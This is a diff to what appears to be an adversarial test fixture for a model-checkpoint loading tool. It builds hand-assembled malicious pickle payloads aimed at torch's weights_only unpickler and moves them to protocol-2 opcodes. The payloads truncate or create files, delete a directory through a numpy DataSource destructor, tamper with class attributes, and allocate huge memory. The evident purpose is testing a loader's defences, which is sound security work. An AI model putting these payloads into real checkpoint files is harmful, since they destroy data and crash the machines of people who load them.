@@ -32,18 +32,20 @@ BOMB_BYTES = 300_000_000
 # ------------------------------------------------------------------------------------------------ pickle assembly
 def _str(s: str) -> bytes:
     b = s.encode("utf-8")
-    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b
+    return b"X" + struct.pack("<I", len(b)) + b
 
 
 def obj(v: object) -> bytes:
-    """Protocol-4 opcodes that push the plain value ``v`` (None, bool, int, str, bytes, tuple, list, dict), no
-    memo."""
+    """Opcodes that push the plain value ``v`` (None, bool, int, str, bytes, tuple, list, dict), no memo: protocol-2
+    opcodes (which torch's weights_only unpickler reads too), except BINBYTES for ``bytes`` (protocol 3)."""
     if v is None:
         return b"N"
     if isinstance(v, bool):
         return b"\x88" if v else b"\x89"
     if isinstance(v, int):
-        raw = v.to_bytes((v.bit_length() + 8) // 8 or 1, "little", signed=True)
+        if -(2 ** 31) <= v < 2 ** 31:
+            return b"J" + struct.pack("<i", v)
+        raw = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
         return b"\x8a" + bytes([len(raw)]) + raw
     if isinstance(v, str):
         return _str(v)
@@ -59,8 +61,9 @@ def obj(v: object) -> bytes:
 
 
 def glob(module: str, qualname: str) -> bytes:
-    """STACK_GLOBAL of ``module`` + ``qualname`` (``qualname`` may hold dots: ``pickle`` walks them)."""
-    return _str(module) + _str(qualname) + b"\x93"
+    """GLOBAL ``module`` ``qualname``: in a pickle of protocol 4 or more (:func:`pickle4`) ``pickle`` walks the dots
+    of ``qualname`` attribute by attribute."""
+    return b"c" + module.encode() + b"\n" + qualname.encode() + b"\n"
 
 
 def call(func: bytes, *args: object, raw_args: bytes = b"") -> bytes:
@@ -69,8 +72,13 @@ def call(func: bytes, *args: object, raw_args: bytes = b"") -> bytes:
 
 
 def pickle4(body: bytes) -> bytes:
-    """A protocol-4 pickle of ``body`` (the value left on the stack)."""
+    """A protocol-4 pickle of ``body`` (the value left on the stack): dotted names are walked."""
     return b"\x80\x04" + body + b"."
+
+
+def pickle2(body: bytes) -> bytes:
+    """A protocol-2 pickle of ``body``, as ``torch.save`` writes (torch's weights_only unpickler reads it)."""
+    return b"\x80\x02" + body + b"."
 
 
 def _code_args(source: str) -> tuple[object, ...]:
@@ -102,41 +110,41 @@ def lr_scheduler_code() -> bytes:
 
 def pyio_fileio(target: Path) -> bytes:
     """``_pyio.FileIO(target, 'w')``: creates (or truncates) ``target``."""
-    return pickle4(call(glob("_pyio", "FileIO"), str(target), "w"))
+    return pickle2(call(glob("_pyio", "FileIO"), str(target), "w"))
 
 
 def sqlite_connection(target: Path) -> bytes:
     """``_sqlite3.Connection(target)`` (what ``sqlite3.connect`` builds): creates the database file ``target``."""
-    return pickle4(call(glob("_sqlite3", "Connection"), str(target)))
+    return pickle2(call(glob("_sqlite3", "Connection"), str(target)))
 
 
 def semlock() -> bytes:
     """``_multiprocessing.SemLock(kind, value, maxvalue, name, unlink=True)``: creates a named semaphore (unlinked
     at once, so nothing outlives the loader)."""
-    return pickle4(call(glob("_multiprocessing", "SemLock"), 1, 1, 1, "/ckptool-adversarial-allow", True))
+    return pickle2(call(glob("_multiprocessing", "SemLock"), 1, 1, 1, "/ckptool-adversarial-allow", True))
 
 
 def numpy_datasource(victim: Path) -> bytes:
     """A ``numpy.lib._datasource.DataSource`` made without its constructor (NEWOBJ) whose state says its
     destination is a temporary folder: its destructor runs ``shutil.rmtree(victim)``."""
     state = {"_istmpdest": True, "_destpath": str(victim)}
-    return pickle4(glob("numpy.lib._datasource", "DataSource") + b")\x81" + obj(state) + b"b")
+    return pickle2(glob("numpy.lib._datasource", "DataSource") + b")\x81" + obj(state) + b"b")
 
 
 def class_build(module: str, name: str) -> bytes:
     """GLOBAL ``module.name`` (an allowed or needs-trust class), then BUILD with a ``(None, slotstate)`` state:
     ``pickle`` runs ``setattr(cls, 'ckptool_marker', 1)`` on the class itself."""
-    return pickle4(glob(module, name) + obj((None, {"ckptool_marker": 1})) + b"b")
+    return pickle2(glob(module, name) + obj((None, {"ckptool_marker": 1})) + b"b")
 
 
 def bytearray_bomb(n: int = BOMB_BYTES) -> bytes:
     """``builtins.bytearray(n)`` (an allowed constructor): fills ``n`` zero bytes when loaded."""
-    return pickle4(call(glob("builtins", "bytearray"), n))
+    return pickle2(call(glob("builtins", "bytearray"), n))
 
 
 def storage_bomb(n: int = BOMB_BYTES // 4) -> bytes:
     """``torch.FloatStorage(n)`` (an allowed storage class called with a size): allocates ``4 * n`` bytes."""
-    return pickle4(call(glob("torch", "FloatStorage"), n))
+    return pickle2(call(glob("torch", "FloatStorage"), n))
 
 
 def py2_eval() -> bytes:
